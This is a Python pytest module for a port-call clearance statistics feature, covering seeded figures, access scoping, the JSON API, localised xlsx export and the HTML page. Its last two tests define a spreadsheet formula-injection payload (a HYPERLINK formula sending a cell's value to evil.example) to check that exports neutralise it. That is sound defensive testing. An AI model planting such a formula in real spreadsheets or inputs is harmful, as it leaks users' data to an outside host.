"""Statistics from a seeded event log: exact figures, who sees what, the API, xlsx and the page.

Two years of calls at station A (terminals COAL and CONT, every service mode), one at another
station, events written with ``events.emit`` and then dated. The range is the first half of
2026 in Asia/Shanghai, against the first half of 2025.
"""

from __future__ import annotations

import io
import json
import re
from datetime import UTC, date, datetime
from html import unescape

import pytest
from openpyxl import load_workbook

from bastion.clearance.calls.models import CallParticipant, PortCall
from bastion.clearance.stats import service
from bastion.core import context
from bastion.core.events import EventRecord
from bastion.org.models import AgencyKind, Role
from tests.factories import make_agency, make_user
from tests.web_helpers import api_token, login

RANGE = {"start": "2026-01-01", "end": "2026-06-30"}
MOVED_IN = {"from": "inspecting", "to": "cleared_in"}
MOVED_OUT = {"from": "departure_declared", "to": "cleared_out"}


def utc(*args: int) -> datetime:
    return datetime(*args, tzinfo=UTC)


def iso(*args: int) -> str:
    return utc(*args).isoformat()


class Seeder:
    def __init__(self, session, world, agent_user):
        self.session, self.world, self.agent_user = session, world, agent_user

    def call(self, name, *, terminal=None, mode="normal", station=None, agent_user=None,
             participants=(), **columns):
        agent_user = agent_user or self.agent_user
        station = station or self.world.a
        call = PortCall(station_org_id=station.id, agent_org_id=agent_user.organisation_id,
                        created_by_id=agent_user.id, vessel_name=name, terminal=terminal,
                        service_mode=mode, **columns)
        self.session.add(call)
        self.session.flush()
        for agency in {station, *participants}:
            self.session.add(CallParticipant(call_id=call.id, agency_id=agency.id))
        return call

    def event(self, call, action, at, **payload):
        # events.emit stamps "now" and the log refuses updates (append-only, in the database),
        # so the rows are written as emit writes them, with the time the seeded event happened.
        self.session.add(EventRecord(
            at=at, kind=f"portcall.{action}", actor_id=self.agent_user.id,
            record_kind="port_call", record_id=call.id,
            payload={"action": action, "from": None, "to": None, "reason": None, **payload}))
        self.session.flush()


@pytest.fixture
def seeded(session, world):
    world.c.kind = AgencyKind.BORDER_INSPECTION  # C is a second station here, not the army
    agency = make_agency(session, code="AGT-1", kind=AgencyKind.SHIPPING_AGENCY)
    other_agency = make_agency(session, code="AGT-2", kind=AgencyKind.SHIPPING_AGENCY)
    agent = make_user(session, agency=agency, role=Role.OFFICER, username="agent.one")
    other_agent = make_user(session, agency=other_agency, role=Role.OFFICER,
                            username="agent.two")
    s = Seeder(session, world, agent)

    # --- 2026 --------------------------------------------------------------------------------
    c1 = s.call("C1", terminal="COAL", participants=[world.b])
    s.event(c1, "submit", utc(2026, 1, 10), eta=iso(2026, 1, 12))          # lead 48 h
    s.event(c1, "amend", utc(2026, 1, 11), eta=iso(2026, 1, 13))
    s.event(c1, "approve_arrival", utc(2026, 1, 11, 12), tide_wait_minutes=0)  # not tide
    s.event(c1, "arrive", utc(2026, 1, 12, 2), ata=iso(2026, 1, 12, 1))
    s.event(c1, "clear_in", utc(2026, 1, 12, 3), persons=20,
            **{"from": "inspecting", "to": "inspecting"})                 # first agency
    s.event(c1, "clear_in", utc(2026, 1, 12, 5), persons=20, **MOVED_IN)   # clearance 4 h
    s.event(c1, "clear_out", utc(2026, 1, 14, 8), persons=19, **MOVED_OUT)
    s.event(c1, "depart", utc(2026, 1, 14, 10), atd=iso(2026, 1, 14, 9))   # in port 56 h

    c2 = s.call("C2", terminal="COAL", mode="tide_window", eta=utc(2026, 2, 2, 12),
                ata=utc(2026, 2, 2, 13))
    s.event(c2, "submit", utc(2026, 2, 1))                                 # lead 36 h (column)
    s.event(c2, "approve_arrival", utc(2026, 2, 1, 6), tide_wait_minutes=90)
    s.event(c2, "submit", utc(2026, 2, 1, 12), eta=iso(2026, 2, 10))      # not the first
    s.event(c2, "arrive", utc(2026, 2, 2, 14))                             # ATA from column
    s.event(c2, "clear_in", utc(2026, 2, 2, 19), **MOVED_IN)               # 6 h, 0 persons

    c3 = s.call("C3", terminal="CONT", mode="24h", agent_user=other_agent)
    s.event(c3, "submit", utc(2026, 3, 30), eta=iso(2026, 3, 31, 12))     # lead 36 h
    s.event(c3, "arrive", utc(2026, 3, 31, 15))                            # ATA: event time
    # 17:30 UTC on 31 March is 01:30 on 1 April in Shanghai: an April clearance.
    s.event(c3, "clear_in", utc(2026, 3, 31, 17, 30), persons=12, **MOVED_IN)  # 2.5 h

    c4 = s.call("C4", terminal="CONT", mode="tide_window")
    s.event(c4, "approve_arrival", utc(2026, 5, 3))                        # wait never recorded
    c5 = s.call("C5", terminal="COAL", mode="tide_window")
    s.event(c5, "approve_arrival", utc(2026, 2, 20), tide_wait_minutes=150)
    c6 = s.call("C6", mode="normal")
    s.event(c6, "approve_arrival", utc(2026, 2, 25), tide_wait_minutes=360)
    c7 = s.call("C7", terminal="COAL")
    s.event(c7, "clear_in", utc(2026, 7, 5), persons=50, **MOVED_IN)       # after the range

    # --- 2025 --------------------------------------------------------------------------------
    l1 = s.call("L1", terminal="COAL")
    s.event(l1, "submit", utc(2024, 12, 20), eta=iso(2025, 1, 19))         # before the range
    s.event(l1, "arrive", utc(2025, 1, 20, 1), ata=iso(2025, 1, 19, 23))
    s.event(l1, "clear_in", utc(2025, 1, 20, 5), persons=10, **MOVED_IN)   # 6 h
    l2 = s.call("L2", terminal="CONT", mode="24h")
    s.event(l2, "arrive", utc(2025, 4, 9, 22))
    s.event(l2, "clear_in", utc(2025, 4, 10), persons=8, **MOVED_IN)       # 2 h
    s.event(l2, "clear_out", utc(2025, 4, 12), persons=8, **MOVED_OUT)
    s.event(l2, "depart", utc(2025, 4, 12, 12))                            # in port 62 h
    l3 = s.call("L3", terminal="COAL", mode="tide_window")
    s.event(l3, "approve_arrival", utc(2025, 2, 10), tide_wait_minutes=60)

    # --- another station's call --------------------------------------------------------------
    x1 = s.call("X1", terminal="COAL", station=world.c)
    s.event(x1, "clear_in", utc(2026, 1, 15), persons=100, **MOVED_IN)
    session.commit()
    return agent, other_agent


@pytest.fixture
def shanghai():
    token = context.set_current(context.RequestContext(language="en", timezone="Asia/Shanghai"))
    yield
    context.reset(token)


def _first_half(session, user, **extra):
    return service.statistics(session, user=user, start=date(2026, 1, 1),
                              end=date(2026, 6, 30), **extra)


def _cell(row, key):
    cell = row.cells[key]
    return (cell.value, cell.last_year, cell.change, cell.change_pct)


def test_statistics_from_a_seeded_event_log(session, world, seeded, shanghai):
    report = _first_half(session, world.a_supervisor)
    assert (report.last_year_start, report.last_year_end) == (date(2025, 1, 1),
                                                              date(2025, 6, 30))
    total = report.total
    assert _cell(total, "vessels_in") == (3, 2, 1, 50.0)
    assert _cell(total, "persons_in") == (32, 18, 14, 77.8)
    assert _cell(total, "vessels_out") == (1, 1, 0, 0.0)
    assert _cell(total, "persons_out") == (19, 8, 11, 137.5)
    assert _cell(total, "lead_time_mean") == (40.0, None, None, None)  # n/a: none last year
    assert _cell(total, "lead_time_median") == (36.0, None, None, None)
    assert _cell(total, "clearance_mean") == (4.17, 4.0, 0.17, 4.2)
    assert _cell(total, "clearance_median") == (4.0, 4.0, 0.0, 0.0)
    assert _cell(total, "in_port_mean") == (56.0, 62.0, -6.0, -9.7)
    assert _cell(total, "tide_wait_mean") == (3.33, 1.0, 2.33, 233.3)
    assert _cell(total, "tide_wait_median") == (2.5, 1.0, 1.5, 150.0)


def test_months_terminals_and_modes(session, world, seeded, shanghai):
    report = _first_half(session, world.author)
    months = {r.key: r for r in report.groups["period"]}
    assert list(months) == [f"2026-0{m}" for m in range(1, 7)]
    assert _cell(months["2026-01"], "persons_in") == (20, 10, 10, 100.0)
    assert _cell(months["2026-01"], "clearance_mean") == (4.0, 6.0, -2.0, -33.3)
    assert _cell(months["2026-02"], "tide_wait_mean") == (3.33, 1.0, 2.33, 233.3)
    assert _cell(months["2026-03"], "vessels_in") == (0, 0, 0, None)
    assert _cell(months["2026-03"], "lead_time_mean") == (36.0, None, None, None)
    assert _cell(months["2026-04"], "vessels_in") == (1, 1, 0, 0.0)   # C3, in Shanghai time
    assert _cell(months["2026-04"], "in_port_mean") == (None, 62.0, None, None)
    terminals = {r.key: r for r in report.groups["terminal"]}
    assert list(terminals) == ["COAL", "CONT", None]
    assert _cell(terminals["COAL"], "vessels_in") == (2, 1, 1, 100.0)
    assert _cell(terminals["COAL"], "clearance_mean") == (5.0, 6.0, -1.0, -16.7)
    assert _cell(terminals["COAL"], "tide_wait_mean") == (2.0, 1.0, 1.0, 100.0)
    assert _cell(terminals["CONT"], "clearance_mean") == (2.5, 2.0, 0.5, 25.0)
    assert _cell(terminals[None], "tide_wait_mean") == (6.0, None, None, None)
    modes = {r.key: r for r in report.groups["mode"]}
    assert list(modes) == ["normal", "24h", "tide_window"]
    assert _cell(modes["tide_window"], "tide_wait_median") == (2.0, 1.0, 1.0, 100.0)
    assert _cell(modes["normal"], "persons_in") == (20, 10, 10, 100.0)

    coal = _first_half(session, world.author, terminal="COAL")
    assert _cell(coal.total, "vessels_in") == (2, 1, 1, 100.0)
    tide = _first_half(session, world.author, mode="tide_window", period="quarter")
    assert [r.key for r in tide.groups["period"]] == ["2026-Q1", "2026-Q2"]
    assert _cell(tide.total, "vessels_in") == (1, 0, 1, None)


def test_the_users_time_zone_decides_the_period(session, world, seeded):
    token = context.set_current(context.RequestContext(language="en", timezone="UTC"))
    try:
        months = {r.key: r for r in _first_half(session, world.author).groups["period"]}
    finally:
        context.reset(token)
    assert months["2026-03"].cells["vessels_in"].value == 1
    assert months["2026-04"].cells["vessels_in"].value == 0


def test_each_sees_only_the_calls_they_may(session, world, seeded, shanghai):
    agent, other_agent = seeded
    # An agent sees its own agency's calls at any station: all but C3 (AGT-2's).
    mine = _first_half(session, agent)
    assert _cell(mine.total, "vessels_in") == (3, 2, 1, 50.0)
    assert _cell(mine.total, "persons_in") == (120, 18, 102, 566.7)
    theirs = _first_half(session, other_agent)   # C3 only
    assert _cell(theirs.total, "vessels_in") == (1, 0, 1, None)
    assert _cell(theirs.total, "persons_in") == (12, 0, 12, None)
    assert service.terminals(session, user=other_agent) == ["CONT"]
    partner = _first_half(session, world.b_officer)   # B takes part in C1 only
    assert _cell(partner.total, "vessels_in") == (1, 0, 1, None)
    assert _cell(partner.total, "persons_in") == (20, 0, 20, None)
    elsewhere = _first_half(session, world.c_officer)  # station C: X1 only
    assert _cell(elsewhere.total, "persons_in") == (100, 0, 100, None)
    assert [r.key for r in elsewhere.groups["terminal"]] == ["COAL"]
    nobody = make_agency(session, code="ORG-D")
    stranger = make_user(session, agency=nobody, username="d.officer")
    none = _first_half(session, stranger)
    assert _cell(none.total, "vessels_in") == (0, 0, 0, None)
    assert none.groups["terminal"] == [] and none.groups["mode"] == []


def test_the_json_api(client, world, seeded):
    headers = api_token(client, "a.super")
    response = client.get("/api/v1/clearance/statistics", headers=headers,
                          params={**RANGE, "period": "month"})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["timezone"] == "Asia/Shanghai" and body["last_year_start"] == "2025-01-01"
    assert body["total"]["cells"]["vessels_in"] == {"value": 3, "last_year": 2, "change": 1,
                                                    "change_pct": 50.0}
    assert [r["key"] for r in body["by_period"]][3] == "2026-04"
    assert body["by_period"][3]["last_year_key"] == "2025-04"
    assert body["by_terminal"][-1]["key"] is None
    assert [m["key"] for m in body["measures"]][:2] == ["vessels_in", "persons_in"]
    only = client.get("/api/v1/clearance/statistics", headers=headers,
                      params={**RANGE, "by": ["terminal", "mode"]}).json()
    assert only["by_period"] is None and len(only["by_terminal"]) == 3
    agent = client.get("/api/v1/clearance/statistics", headers=api_token(client, "agent.two"),
                       params=RANGE).json()
    assert agent["total"]["cells"]["persons_in"]["value"] == 12
    backwards = client.get("/api/v1/clearance/statistics", headers=headers,
                           params={"start": "2026-06-30", "end": "2026-01-01"})
    assert backwards.status_code == 422
    assert backwards.json()["detail"][0]["loc"][-1] == "start"
    assert client.get("/api/v1/clearance/statistics", headers=headers,
                      params={"period": "fortnight"}).status_code == 422
    assert client.get("/api/v1/clearance/statistics").status_code == 401


def _rows(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


def test_the_xlsx_export(client, world, seeded):
    headers = api_token(client, "a.super")
    client.cookies.set("bastion_lang", "en")
    response = client.get("/api/v1/clearance/statistics.xlsx", headers=headers,
                          params={**RANGE, "period": "month"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert "port-call-statistics-2026-01-01-2026-06-30.xlsx" in (
        response.headers["content-disposition"])
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Overview", "By period", "By terminal", "By service mode"]
    summary = _rows(book["Overview"])
    assert summary[0] == ["Range", "2026-01-01 – 2026-06-30", None, None, None]
    heading = summary.index(["Measure", "This range", "Same range last year", "Change",
                             "Change (%)"])
    by_measure = {r[0]: r[1:] for r in summary[heading + 1:]}
    assert by_measure["Vessels cleared in"] == [3, 2, 1, 50]
    assert by_measure["Pre-check lead time, average (h)"] == [40, None, None, None]
    assert by_measure["Clearance time, average (h)"] == [4.17, 4, 0.17, 4.2]
    periods = _rows(book["By period"])
    assert periods[0][:6] == ["Period", "Same period last year", "Vessels cleared in",
                              "Vessels cleared in: last year", "Vessels cleared in: change",
                              "Vessels cleared in: change (%)"]
    assert periods[1][:6] == ["2026-01", "2025-01", 1, 1, 0, 0]
    assert periods[5][:6] == ["2026-05", "2025-05", 0, 0, 0, "n/a"]
    assert periods[-1][0] == "Total" and periods[-1][2:6] == [3, 2, 1, 50]
    terminals = _rows(book["By terminal"])
    assert [r[0] for r in terminals[1:]] == ["COAL", "CONT", "No terminal", "Total"]
    modes = _rows(book["By service mode"])
    assert [r[0] for r in modes[1:]] == ["Normal clearance", "24-hour clearance",
                                         "Tide-window clearance", "Total"]


def test_the_xlsx_speaks_the_users_language(client, world, seeded):
    from bastion.core.i18n import gettext

    client.cookies.set("bastion_lang", "zh-CN")
    response = client.get("/api/v1/clearance/statistics.xlsx", params=RANGE,
                          headers=api_token(client, "a.super"))
    book = load_workbook(io.BytesIO(response.content))
    token = context.set_current(context.RequestContext(language="zh-CN"))
    try:
        expected = [gettext(t) for t in ("Overview", "By period", "By terminal",
                                         "By service mode")]
        period = gettext("Period")
    finally:
        context.reset(token)
    assert book.sheetnames == expected
    assert book[expected[1]]["A1"].value == period
    assert book[expected[1]]["C2"].value == 1


@pytest.mark.parametrize("language", ["zh-CN", "en"])
def test_the_page_renders_in_both_languages(client, world, seeded, language):
    login(client, "a.admin")
    client.cookies.set("bastion_lang", language)
    response = client.get("/clearance/statistics", params={**RANGE, "period": "month"})
    assert response.status_code == 200, response.text
    html = response.text
    assert f'<html lang="{language}">' in html
    assert '<script src="/static/js/clearance-stats.js" defer></script>' in html
    assert "/api/v1/clearance/statistics.xlsx?start=2026-01-01&amp;end=2026-06-30" in html
    data = json.loads(unescape(re.search(r"id=\"stats-charts\" data-stats='([^']*)'", html)[1]))
    assert data["total"]["cells"]["persons_in"]["value"] == 32
    total = re.search(r'<tr data-measure="vessels_in">(.*?)</tr>', html, re.DOTALL)[1]
    assert re.findall(r'<td class="num">([^<]*)</td>', total) == ["3", "2", "+1", "+50.0%"]
    assert 'id="stats-by-terminal"' in html and '<tr data-key="COAL">' in html
    if language == "en":
        assert "Vessels cleared in" in html and "n/a" in html
    else:
        assert "— 全部 —" in html   # the filter's "any", from the catalogue


def test_the_page_reports_a_bad_range(client, world, seeded):
    login(client, "a.admin")
    client.cookies.set("bastion_lang", "en")
    backwards = client.get("/clearance/statistics", params={"start": "2026-06-30",
                                                            "end": "2026-01-01"})
    assert backwards.status_code == 422
    assert 'id="error-start"' in backwards.text and "data-stats" not in backwards.text
    garbled = client.get("/clearance/statistics", params={"start": "30/06/2026"})
    assert garbled.status_code == 422 and "YYYY-MM-DD" in garbled.text
    default = client.get("/clearance/statistics")  # this year so far
    assert default.status_code == 200 and 'id="stats-total"' in default.text


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_xlsx_never_holds_a_live_formula(client, world, seeded, session):
    """``statistics.xlsx?terminal==HYPERLINK(...)`` wrote a live formula (issue #10), and a
    terminal stored with such a name would too: every text cell is neutralised."""
    calls = session.query(PortCall).filter(PortCall.terminal == "CONT").all()
    for call in calls:
        call.terminal = "-CONT"
    session.commit()
    client.cookies.set("bastion_lang", "en")
    response = client.get("/api/v1/clearance/statistics.xlsx",
                          params={**RANGE, "terminal": FORMULA + "\x01"},
                          headers=api_token(client, "a.super"))
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in book for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in texts
    both = client.get("/api/v1/clearance/statistics.xlsx", params=RANGE,
                      headers=api_token(client, "a.super"))
    labels = [r[0] for r in _rows(load_workbook(io.BytesIO(both.content))["By terminal"])]
    assert "'-CONT" in labels


def test_the_page_carries_no_unknown_terminal_into_its_export_link(client, world, seeded):
    login(client, "a.admin")
    client.cookies.set("bastion_lang", "en")
    response = client.get("/clearance/statistics", params={**RANGE, "terminal": FORMULA})
    assert response.status_code == 422
    assert 'id="error-terminal"' in response.text
    assert "statistics.xlsx" not in response.text and "HYPERLINK" not in response.text.split(
        "<main")[-1].split('name="terminal"')[0]
    known = client.get("/clearance/statistics", params={**RANGE, "terminal": "COAL"})
    assert known.status_code == 200
    assert "/api/v1/clearance/statistics.xlsx?start=2026-01-01&amp;end=2026-06-30" \
        "&amp;period=month&amp;terminal=COAL" in known.text
